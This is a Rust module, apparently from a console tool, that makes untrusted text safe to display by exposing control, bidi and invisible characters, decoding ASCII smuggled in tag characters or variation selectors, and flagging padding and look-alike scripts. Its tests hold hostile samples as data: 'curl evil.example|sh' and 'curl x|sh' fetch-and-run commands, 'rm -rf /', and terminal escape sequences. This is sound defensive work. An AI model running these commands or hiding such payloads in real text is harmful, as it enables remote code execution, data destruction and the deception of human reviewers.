//! Display safety for untrusted text (Unicode TR36): every string in a request is shown as text,
//! with control, bidirectional and invisible characters made visible and flagged.
//!
//! One table decides what is hidden, built from Unicode character properties (ICU4X's
//! `icu_properties`, the data `url`/`idna` already use): general categories Cc, Cf, Zl, Zp and Cs,
//! `Default_Ignorable_Code_Point` (zero-width characters, Hangul fillers, U+034F, U+180E, tag
//! characters U+E0000–E007F, …), `Bidi_Control` and `Variation_Selector` (U+FE00–FE0F,
//! U+E0100–E01EF, Mongolian FVS), plus [`BLANK`]: characters that draw nothing or almost nothing
//! and that no property names (U+2800 BRAILLE PATTERN BLANK, the thin typographic spaces).
//! The desktop UI does not keep a table of its own: [`typescript_table`] is written to
//! `ui/src/lib/displaySafety.generated.ts`, and a test fails when that file is stale, so the CLI,
//! the core's warnings and the window can never disagree about a character.
//!
//! Terminal output goes through [`visible`] / [`visible_line`] (and [`json_safe`] for JSON), so
//! ESC, CSI (U+009B), BEL, backspace and CR from an enforcement point or an agent never reach a
//! terminal raw.

mod warnings;

pub use warnings::{warnings, Warning, WarningKind};

use icu_properties::props::{BidiControl, DefaultIgnorableCodePoint, GeneralCategory, VariationSelector};
use icu_properties::{CodePointMapData, CodePointSetData};

/// Characters that render blank (or nearly) and are neither controls nor default-ignorable, so no
/// Unicode property catches them; each is a known way to pad or disguise text.
/// U+00A0, U+202F and U+3000 are left out: ordinary text (French, CJK) uses them.
pub const BLANK: &[(u32, u32)] = &[
    (0x2000, 0x200A),   // EN QUAD … HAIR SPACE: spaces of other widths, down to almost nothing
    (0x205F, 0x205F),   // MEDIUM MATHEMATICAL SPACE
    (0x2800, 0x2800),   // BRAILLE PATTERN BLANK: a "letter" that draws nothing
    (0x1D159, 0x1D159), // MUSICAL SYMBOL NULL NOTEHEAD: draws nothing
];

/// Layout characters a multi-line display keeps (tab, line feed); one-line displays mark them too.
pub const LAYOUT: &[char] = &['\t', '\n'];

/// Why a code point is in the display-safety table (the first reason that applies, in this order).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HiddenKind {
    /// General category Cc: C0/C1 controls and DEL (ESC, CSI U+009B, BEL, backspace, CR, …).
    Control,
    /// General categories Zl and Zp: U+2028 LINE SEPARATOR, U+2029 PARAGRAPH SEPARATOR.
    Separator,
    /// `Bidi_Control`: marks, embeddings, overrides and isolates that reorder what is shown.
    Bidi,
    /// `Variation_Selector`: invisible, and a known way to smuggle bytes after a visible letter.
    VariationSelector,
    /// U+E0000–E007F: tag characters, invisible ASCII ("ASCII smuggling").
    Tag,
    /// General category Cf, other than the above (zero-width joiners, U+FEFF, U+180E, …).
    Format,
    /// `Default_Ignorable_Code_Point`, other than the above (U+034F, Hangul fillers, …).
    Ignorable,
    /// [`BLANK`]: draws nothing or almost nothing.
    Blank,
    /// General category Cs: a lone surrogate (only possible in UTF-16 text, as in the web view).
    Surrogate,
}

impl HiddenKind {
    /// The name used in the generated TypeScript table and in warnings.
    pub fn name(self) -> &'static str {
        match self {
            HiddenKind::Control => "control",
            HiddenKind::Separator => "separator",
            HiddenKind::Bidi => "bidi",
            HiddenKind::VariationSelector => "variation-selector",
            HiddenKind::Tag => "tag",
            HiddenKind::Format => "format",
            HiddenKind::Ignorable => "ignorable",
            HiddenKind::Blank => "blank",
            HiddenKind::Surrogate => "surrogate",
        }
    }
}

/// The display-safety table: why code point `cp` must be made visible, or `None` for an ordinary
/// character. Layout characters ([`LAYOUT`]) are in the table; the displays decide about them.
pub fn hidden_kind(cp: u32) -> Option<HiddenKind> {
    if (0x20..0x7F).contains(&cp) {
        return None; // printable ASCII: the common case, no lookups
    }
    let gc = CodePointMapData::<GeneralCategory>::new().get32(cp);
    let kind = match gc {
        GeneralCategory::Control => HiddenKind::Control,
        GeneralCategory::LineSeparator | GeneralCategory::ParagraphSeparator => HiddenKind::Separator,
        GeneralCategory::Surrogate => HiddenKind::Surrogate,
        _ if CodePointSetData::new::<BidiControl>().contains32(cp) => HiddenKind::Bidi,
        _ if CodePointSetData::new::<VariationSelector>().contains32(cp) => HiddenKind::VariationSelector,
        _ if (0xE0000..=0xE007F).contains(&cp) => HiddenKind::Tag,
        GeneralCategory::Format => HiddenKind::Format,
        _ if CodePointSetData::new::<DefaultIgnorableCodePoint>().contains32(cp) => HiddenKind::Ignorable,
        _ if BLANK.iter().any(|(lo, hi)| (*lo..=*hi).contains(&cp)) => HiddenKind::Blank,
        _ => return None,
    };
    Some(kind)
}

/// Whether `c` must be made visible in a multi-line display: in the table and not [`LAYOUT`].
pub fn is_hidden(c: char) -> bool {
    !LAYOUT.contains(&c) && hidden_kind(c as u32).is_some()
}

/// `text` with every hidden character replaced by a visible `<U+XXXX>`, and whether any was found.
/// Tabs and line feeds are kept: this is for multi-line displays, and for any terminal output.
pub fn visible(text: &str) -> (String, bool) {
    let mut out = String::with_capacity(text.len());
    let mut flagged = false;
    for c in text.chars() {
        if is_hidden(c) {
            flagged = true;
            out.push_str(&format!("<U+{:04X}>", c as u32));
        } else {
            out.push(c);
        }
    }
    (out, flagged)
}

/// [`visible`] for a one-line display (a terminal table row, a log line): tabs and newlines are
/// marked too, so text from a request can never start a line of its own. The one routine every
/// id, name, URL, error body or reason from an enforcement point or an agent goes through before
/// the CLI prints it.
pub fn visible_line(text: &str) -> String {
    visible(text).0.replace('\n', "<U+000A>").replace('\t', "<U+0009>")
}

/// JSON text (as `serde_json` writes it) with every hidden character inside its strings written as
/// a `\uXXXX` escape: the same JSON value, safe to print on a terminal (`serde_json` escapes C0
/// controls itself, but not C1 controls such as CSI U+009B, bidi controls or tag characters).
/// Line feeds and tabs outside strings are layout and stay; inside strings `serde_json` has
/// already escaped them.
pub fn json_safe(json: &str) -> String {
    let mut out = String::with_capacity(json.len());
    for c in json.chars() {
        if is_hidden(c) {
            let mut units = [0u16; 2];
            for u in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{u:04x}"));
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Text smuggled in invisible characters, decoded so an approver can read it: tag characters
/// (U+E0020–E007E stand for ASCII) and runs of two or more variation selectors (U+FE00–FE0F stand
/// for bytes 0–15, U+E0100–E01EF for bytes 16–255, read as UTF-8). One entry per run, made
/// one-line-safe; empty when nothing is smuggled (a single U+FE0F after an emoji is ordinary).
pub fn smuggled(text: &str) -> Vec<String> {
    let tag = |c: char| matches!(c as u32, 0xE0020..=0xE007E).then(|| (c as u32 - 0xE0000) as u8);
    let selector = |c: char| match c as u32 {
        cp @ 0xFE00..=0xFE0F => Some((cp - 0xFE00) as u8),
        cp @ 0xE0100..=0xE01EF => Some((cp - 0xE0100 + 16) as u8),
        _ => None,
    };
    let mut found = Vec::new();
    for decode in [&tag as &dyn Fn(char) -> Option<u8>, &selector] {
        let mut run: Vec<u8> = Vec::new();
        for c in text.chars().chain(std::iter::once('\0')) {
            match decode(c) {
                Some(b) => run.push(b),
                None => {
                    if run.len() >= 2 {
                        found.push(visible_line(&String::from_utf8_lossy(&run)));
                    }
                    run.clear();
                }
            }
        }
    }
    found
}

/// Blank runs that push text out of view, as the desktop's request detail flags them: the length
/// of the longest run of whitespace (other than line breaks) that is at least [`PADDING_RUN`]
/// long, or any run of two or more that starts or ends the text; `None` when there is none.
pub fn padding(text: &str) -> Option<usize> {
    let blank = |c: char| c.is_whitespace() && !matches!(c, '\n' | '\r' | '\u{2028}' | '\u{2029}');
    let mut longest = None;
    let (mut run, mut start) = (0usize, true);
    for c in text.chars() {
        if blank(c) {
            run += 1;
            continue;
        }
        if run >= PADDING_RUN || (start && run >= 2) {
            longest = longest.max(Some(run));
        }
        (run, start) = (0, false);
    }
    if run >= PADDING_RUN || (!start && run >= 2) {
        longest = longest.max(Some(run));
    }
    longest
}

/// A run of this many blank characters inside a value is padding, not spacing.
pub const PADDING_RUN: usize = 8;

/// Every code point in the table, as ranges `(first, last, kind)` of one kind, in order (computed
/// once: it takes a pass over all of Unicode).
pub fn hidden_ranges() -> &'static [(u32, u32, HiddenKind)] {
    static RANGES: std::sync::OnceLock<Vec<(u32, u32, HiddenKind)>> = std::sync::OnceLock::new();
    RANGES.get_or_init(|| {
        let mut out: Vec<(u32, u32, HiddenKind)> = Vec::new();
        for cp in 0..=0x10FFFF {
            match (hidden_kind(cp), out.last_mut()) {
                (Some(k), Some(last)) if last.1 + 1 == cp && last.2 == k => last.1 = cp,
                (Some(k), _) => out.push((cp, cp, k)),
                (None, _) => {}
            }
        }
        out
    })
}

/// The table as the TypeScript module `ui/src/lib/displaySafety.generated.ts`.
pub fn typescript_table() -> String {
    let mut s = String::from(
        "// Generated from crates/console/src/display.rs (Unicode properties via icu_properties); do not edit.\n\
         // Regenerate: UPDATE_BINDINGS=1 cargo test -p countersign-console-core --lib display\n\n\
         /** Why a code point is hidden (see `HiddenKind` in display.rs). */\n\
         export type HiddenKind =\n",
    );
    let kinds = [
        HiddenKind::Control,
        HiddenKind::Separator,
        HiddenKind::Bidi,
        HiddenKind::VariationSelector,
        HiddenKind::Tag,
        HiddenKind::Format,
        HiddenKind::Ignorable,
        HiddenKind::Blank,
        HiddenKind::Surrogate,
    ];
    for (i, k) in kinds.iter().enumerate() {
        let end = if i + 1 == kinds.len() { ";" } else { "" };
        s.push_str(&format!("  | \"{}\"{end}\n", k.name()));
    }
    s.push_str("\n/** Code points a multi-line display keeps as layout (tab, line feed). */\n");
    let layout: Vec<String> = LAYOUT.iter().map(|c| format!("0x{:02x}", *c as u32)).collect();
    s.push_str(&format!("export const LAYOUT: readonly number[] = [{}];\n\n", layout.join(", ")));
    s.push_str("/** Sorted, disjoint ranges [first, last, kind] of every code point to make visible. */\n");
    s.push_str("export const HIDDEN_RANGES: ReadonlyArray<readonly [number, number, HiddenKind]> = [\n");
    for (lo, hi, k) in hidden_ranges().iter().copied() {
        s.push_str(&format!("  [0x{lo:04x}, 0x{hi:04x}, \"{}\"],\n", k.name()));
    }
    s.push_str("];\n");
    s
}

/// The script of a letter, for the scripts that are commonly confused with Latin (UTS #39
/// mixed-script detection, restricted to the confusable set); `None` for non-letters and for
/// scripts that do not mix with Latin look-alikes.
fn script(c: char) -> Option<&'static str> {
    match c {
        'a'..='z' | 'A'..='Z' | '\u{00C0}'..='\u{024F}' | '\u{1E00}'..='\u{1EFF}' => Some("Latin"),
        '\u{0370}'..='\u{03FF}' | '\u{1F00}'..='\u{1FFF}' => Some("Greek"),
        '\u{0400}'..='\u{052F}' => Some("Cyrillic"),
        '\u{0530}'..='\u{058F}' => Some("Armenian"),
        '\u{13A0}'..='\u{13FF}' => Some("Cherokee"),
        '\u{FF21}'..='\u{FF3A}' | '\u{FF41}'..='\u{FF5A}' => Some("Fullwidth Latin"),
        _ => None,
    }
}

/// When one word (a run of letters, digits, `_`, `-`, `.`) mixes Latin with a look-alike script
/// (Cyrillic, Greek, …), the scripts mixed — e.g. `рayments` with a Cyrillic `р`.
pub fn mixed_script(text: &str) -> Option<Vec<&'static str>> {
    for word in text.split(|c: char| !(c.is_alphanumeric() || matches!(c, '_' | '-' | '.'))) {
        let mut scripts: Vec<&'static str> = word.chars().filter_map(script).collect();
        scripts.sort_unstable();
        scripts.dedup();
        if scripts.len() > 1 {
            return Some(scripts);
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_line_text_stays_one_line() {
        assert_eq!(visible_line("a\nb\u{202E}c\td"), "a<U+000A>b<U+202E>c<U+0009>d");
        assert_eq!(visible("a\nb").0, "a\nb", "multi-line displays keep their lines");
    }

    #[test]
    fn mixed_scripts_are_flagged() {
        assert_eq!(mixed_script("\u{0440}ayments.transfer"), Some(vec!["Cyrillic", "Latin"]));
        assert_eq!(mixed_script("payments.transfer"), None);
        assert_eq!(mixed_script("Дмитрий Ivanov"), None, "separate words in different scripts are fine");
        assert_eq!(mixed_script("Ólafur"), None);
    }

    /// Every class the display-safety table must cover, by property and by the named examples.
    #[test]
    fn the_table_covers_every_hidden_class() {
        let cases: &[(u32, HiddenKind)] = &[
            (0x1B, HiddenKind::Control),     // ESC
            (0x07, HiddenKind::Control),     // BEL
            (0x08, HiddenKind::Control),     // backspace
            (0x0D, HiddenKind::Control),     // CR
            (0x7F, HiddenKind::Control),     // DEL
            (0x9B, HiddenKind::Control),     // CSI
            (0x2028, HiddenKind::Separator), // LINE SEPARATOR
            (0x2029, HiddenKind::Separator), // PARAGRAPH SEPARATOR
            (0x202E, HiddenKind::Bidi),
            (0x2066, HiddenKind::Bidi),
            (0x061C, HiddenKind::Bidi),
            (0x200E, HiddenKind::Bidi),
            (0xFE00, HiddenKind::VariationSelector),
            (0xFE0F, HiddenKind::VariationSelector),
            (0xE0100, HiddenKind::VariationSelector),
            (0xE01EF, HiddenKind::VariationSelector),
            (0x180B, HiddenKind::VariationSelector),
            (0xE0000, HiddenKind::Tag),
            (0xE0041, HiddenKind::Tag),
            (0xE007F, HiddenKind::Tag),
            (0x200B, HiddenKind::Format),
            (0xFEFF, HiddenKind::Format),
            (0x00AD, HiddenKind::Format),
            (0x180E, HiddenKind::Format),
            (0xFFF9, HiddenKind::Format),
            (0x034F, HiddenKind::Ignorable), // COMBINING GRAPHEME JOINER
            (0x115F, HiddenKind::Ignorable), // Hangul fillers
            (0x1160, HiddenKind::Ignorable),
            (0x3164, HiddenKind::Ignorable),
            (0xFFA0, HiddenKind::Ignorable),
            (0x2800, HiddenKind::Blank),
            (0x200A, HiddenKind::Blank),
            (0xD800, HiddenKind::Surrogate),
        ];
        for (cp, kind) in cases {
            assert_eq!(hidden_kind(*cp), Some(*kind), "U+{cp:04X}");
        }
        for ordinary in ['a', ' ', 'é', 'Ж', '東', '✓', '€', '\u{00A0}', '\u{3000}', '\u{1F600}'] {
            assert!(!is_hidden(ordinary), "{ordinary:?} is ordinary text");
        }
        assert!(!is_hidden('\n') && !is_hidden('\t'), "layout in multi-line displays");
    }

    /// The table is exactly its definition: every default-ignorable, bidi-control and
    /// variation-selector code point and every Cc/Cf/Zl/Zp/Cs one, nothing else but [`BLANK`].
    #[test]
    fn the_ranges_are_the_properties() {
        let di = CodePointSetData::new::<DefaultIgnorableCodePoint>();
        let bidi = CodePointSetData::new::<BidiControl>();
        let vs = CodePointSetData::new::<VariationSelector>();
        let gc = CodePointMapData::<GeneralCategory>::new();
        let ranges = hidden_ranges();
        assert!(ranges.windows(2).all(|w| w[0].1 < w[1].0), "sorted and disjoint");
        let mut in_ranges = vec![false; 0x110000];
        for (lo, hi, _) in ranges {
            in_ranges[*lo as usize..=*hi as usize].fill(true);
        }
        // The same set from the properties' own range lists, not from `hidden_kind`.
        let mut expected = vec![false; 0x110000];
        let mut mark =
            |r: std::ops::RangeInclusive<u32>| expected[*r.start() as usize..=*r.end() as usize].fill(true);
        di.iter_ranges().chain(bidi.iter_ranges()).chain(vs.iter_ranges()).for_each(&mut mark);
        for category in [
            GeneralCategory::Control,
            GeneralCategory::Format,
            GeneralCategory::LineSeparator,
            GeneralCategory::ParagraphSeparator,
            GeneralCategory::Surrogate,
        ] {
            gc.iter_ranges_for_value(category).for_each(&mut mark);
        }
        BLANK.iter().for_each(|(lo, hi)| mark(*lo..=*hi));
        let first_difference = (0..0x110000).find(|cp| in_ranges[*cp] != expected[*cp]);
        assert_eq!(first_difference, None, "the table differs from the properties at this code point");
    }

    /// The UI's copy of the table is generated from this one; a stale file fails here.
    #[test]
    fn the_ui_table_is_fresh() {
        let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../ui/src/lib/displaySafety.generated.ts");
        let text = typescript_table();
        if std::env::var_os("UPDATE_BINDINGS").is_some() {
            std::fs::write(&path, &text).expect("write the generated table");
        }
        let on_disk = std::fs::read_to_string(&path).unwrap_or_default();
        assert!(
            on_disk == text,
            "{} is stale: run UPDATE_BINDINGS=1 cargo test -p countersign-console-core --lib display",
            path.display()
        );
    }

    #[test]
    fn terminal_escapes_never_pass() {
        let hostile = "id\u{1b}]0;pwned\u{7}\u{1b}[2K\rx\u{9b}31m\u{8}";
        let shown = visible_line(hostile);
        assert!(!shown.chars().any(|c| c.is_control()), "{shown}");
        assert_eq!(shown, "id<U+001B>]0;pwned<U+0007><U+001B>[2K<U+000D>x<U+009B>31m<U+0008>");
        let json = serde_json::to_string(&serde_json::json!({"id": "a\u{9b}b\u{202e}\u{e0041}"})).unwrap();
        let safe = json_safe(&json);
        assert!(!safe.chars().any(is_hidden), "{safe}");
        assert_eq!(
            serde_json::from_str::<serde_json::Value>(&safe).unwrap(),
            serde_json::from_str::<serde_json::Value>(&json).unwrap(),
            "the same JSON value"
        );
    }

    #[test]
    fn padding_is_found() {
        assert_eq!(padding(&format!("ls -l{}; curl x|sh", " ".repeat(200))), Some(200));
        assert_eq!(padding("  rm -rf /"), Some(2));
        assert_eq!(padding("tail\u{A0}\u{A0}\t"), Some(3));
        assert_eq!(padding("two  spaces are fine"), None);
        assert_eq!(padding("line\nbreaks\n\nare not padding"), None);
        assert_eq!(padding("        "), Some(8), "all blank and long");
        assert_eq!(padding(""), None);
    }

    #[test]
    fn smuggled_text_is_decoded() {
        let tags: String = "curl x|sh".chars().map(|c| char::from_u32(0xE0000 + c as u32).unwrap()).collect();
        assert_eq!(smuggled(&format!("ls -l{tags}")), vec!["curl x|sh".to_string()]);
        let selectors: String = "curl evil.example|sh"
            .bytes()
            .map(|b| match b {
                0..=15 => char::from_u32(0xFE00 + b as u32).unwrap(),
                _ => char::from_u32(0xE0100 + b as u32 - 16).unwrap(),
            })
            .collect();
        assert_eq!(smuggled(&format!("ls -l{selectors}")), vec!["curl evil.example|sh".to_string()]);
        assert!(smuggled("ok \u{2764}\u{FE0F} fine").is_empty(), "one emoji selector is ordinary");
        let escape: String =
            "\u{1b}[2Kok".bytes().map(|b| char::from_u32(0xFE00 + (b % 16) as u32).unwrap()).collect();
        assert!(
            smuggled(&escape).iter().all(|s| !s.chars().any(char::is_control)),
            "decoded text is shown safely"
        );
        let esc_bytes: String =
            "\u{1b}[2K".bytes().map(|b| char::from_u32(0xE0100 + b as u32 - 16).unwrap()).collect();
        assert_eq!(smuggled(&format!("\u{FE0B}{esc_bytes}")), vec!["<U+000B><U+001B>[2K".to_string()]);
    }

    #[test]
    fn bidi_and_zero_width_are_made_visible() {
        let (s, flagged) = visible("pay\u{202E}lapyap\u{200B}x");
        assert!(flagged);
        assert_eq!(s, "pay<U+202E>lapyap<U+200B>x");
        assert_eq!(visible("plain text"), ("plain text".to_string(), false));
    }
}
